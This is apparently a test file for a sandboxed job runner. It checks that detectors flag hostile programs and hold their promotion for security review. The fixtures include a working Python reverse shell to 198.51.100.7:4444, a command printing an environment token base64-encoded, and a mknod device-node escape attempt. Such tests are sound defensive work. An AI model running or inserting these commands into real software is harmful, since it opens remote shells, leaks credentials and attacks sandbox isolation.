/**
 * Detectors in the pipeline, end to end (real engine, real Redis): a job's findings — with their
 * detector, class and evidence, the kernel's records among it — are in GET /v1/jobs/:id, in its
 * job.finish record and in a promotion's snapshot; a high one keeps an automatic target waiting
 * for the security group, while notes (a failed offline fetch) do not.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runJob, startTestAirlock, type TestAirlock } from './helpers/airlock.js';

let t: TestAirlock;
let dir: string;
let alice: string;
let sam: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'airlock-detectors-'));
  const policy = { version: 'detectors-1', securityGroup: 'security', targets: { auto: { target: { type: 'directory', path: join(dir, 'auto') }, approval: { mode: 'auto' } } } };
  await writeFile(join(dir, 'policy.json'), JSON.stringify(policy));
  t = await startTestAirlock('detectors', { AIRLOCK_REVIEW_POLICY_FILE: join(dir, 'policy.json') });
  alice = (await t.key('agent', 'alice')).key;
  sam = (await t.key('reviewer', 'sam', ['security'])).key;
}, 60_000);

afterAll(async () => {
  await t?.stop();
  if (dir) await rm(dir, { recursive: true, force: true });
});

const REVERSE_SHELL = `
import os, socket, subprocess
os.makedirs("out", exist_ok=True)
open("out/report.txt", "w").write("42\\n")
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("198.51.100.7", 4444))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    subprocess.call(["/bin/sh", "-i"])
except OSError:
    print("report written")
`;

async function promote(jobId: string): Promise<any> {
  const res = await t.request('POST', `/v1/jobs/${jobId}/promotions`, alice, { target: 'auto' });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body;
}

describe('detectors in the pipeline', () => {
  it('a reverse shell: its finding (code and kernel evidence) is in the result, job.finish and the snapshot; the automatic target waits for security', async () => {
    const job = await runJob(t, alice, { runtime: 'python', files: [{ path: 'main.py', content: REVERSE_SHELL }], outputs: ['out/**'] });
    expect(job.status).toBe('succeeded');
    const rs = job.findings.find((f: any) => f.detector === 'reverse-shell');
    expect(rs).toMatchObject({ kind: 'reverse_shell', severity: 'high', class: 'reverse_shell' });
    expect(rs.evidence).toContainEqual(expect.objectContaining({ source: 'code', path: 'main.py' }));
    // the kernel recorded the refused socket: what the program did, not only what it says
    expect(rs.evidence).toContainEqual(expect.objectContaining({ source: 'kernel', excerpt: expect.stringContaining('1 inet socket attempt') }));
    expect(job.findings).toContainEqual(expect.objectContaining({ kind: 'network_attempt', severity: 'low', detector: 'network-attempt' }));

    const audit = (await t.request('GET', `/v1/jobs/${job.id}/audit?limit=100`, alice)).body.records;
    const finish = audit.find((r: any) => r.action === 'job.finish');
    expect(finish.details.findings).toContainEqual({ kind: 'reverse_shell', severity: 'high', detector: 'reverse-shell', class: 'reverse_shell' });

    const p = await promote(job.id);
    expect(p).toMatchObject({ state: 'pending_review', risk: 'high', requirement: { requireGroup: 'security', basis: 'high_risk' } });
    expect(p.findings).toContainEqual(expect.objectContaining({ kind: 'reverse_shell', detector: 'reverse-shell', class: 'reverse_shell', evidence: rs.evidence }));
    const decided = await t.request('POST', `/v1/promotions/${p.id}/decisions`, sam, {
      decision: 'approve',
      reason: 'the connect is a test fixture; report is fine',
      artifactDigest: p.artifactDigest,
    });
    expect(decided.status, JSON.stringify(decided.body)).toBe(200);
  });

  it('a program that only tries the network (an offline fetch) leaves a note, not an alarm: the automatic target promotes it', async () => {
    const code = `import os, urllib.request\nos.makedirs("out", exist_ok=True)\nopen("out/data.txt", "w").write("cached\\n")\ntry:\n    urllib.request.urlopen("http://example.com/data", timeout=2)\nexcept OSError as e:\n    print("offline:", e)\n`;
    const job = await runJob(t, alice, { runtime: 'python', files: [{ path: 'main.py', content: code }], outputs: ['out/**'] });
    expect(job.status).toBe('succeeded');
    expect(job.findings.filter((f: any) => f.severity !== 'low')).toEqual([]);
    expect(job.findings).toContainEqual(expect.objectContaining({ kind: 'network_attempt', severity: 'low' }));
    const p = await promote(job.id);
    expect(p.requirement.basis).toBe('automatic');
    expect(p.state).not.toBe('pending_review');
  });

  it('a secret of its environment printed base64-encoded is a high finding that never repeats the value', async () => {
    const secret = 'tok_live_9Zq2Lk7Vx4Tt1Rr8Pp3Mm6Nn';
    const job = await runJob(t, alice, { runtime: 'shell', command: 'printf %s "$API_TOKEN" | base64', env: { API_TOKEN: secret } });
    expect(job.findings).toContainEqual(
      expect.objectContaining({ kind: 'secret_in_output', severity: 'high', class: 'credential_theft', evidence: [expect.objectContaining({ source: 'stdout' })] }),
    );
    expect(JSON.stringify(job.findings)).not.toContain(secret);
  });

  it('a refused device node is an escape finding the kernel vouches for', async () => {
    const job = await runJob(t, alice, { runtime: 'shell', command: 'mknod /tmp/disk b 8 0 2>/dev/null; echo done' });
    const dn = job.findings.find((f: any) => f.detector === 'device-nodes');
    expect(dn).toMatchObject({ severity: 'high', class: 'escape' });
    expect(dn.evidence[0]).toMatchObject({ source: 'kernel', excerpt: expect.stringContaining('1 mknod') });
  });
});
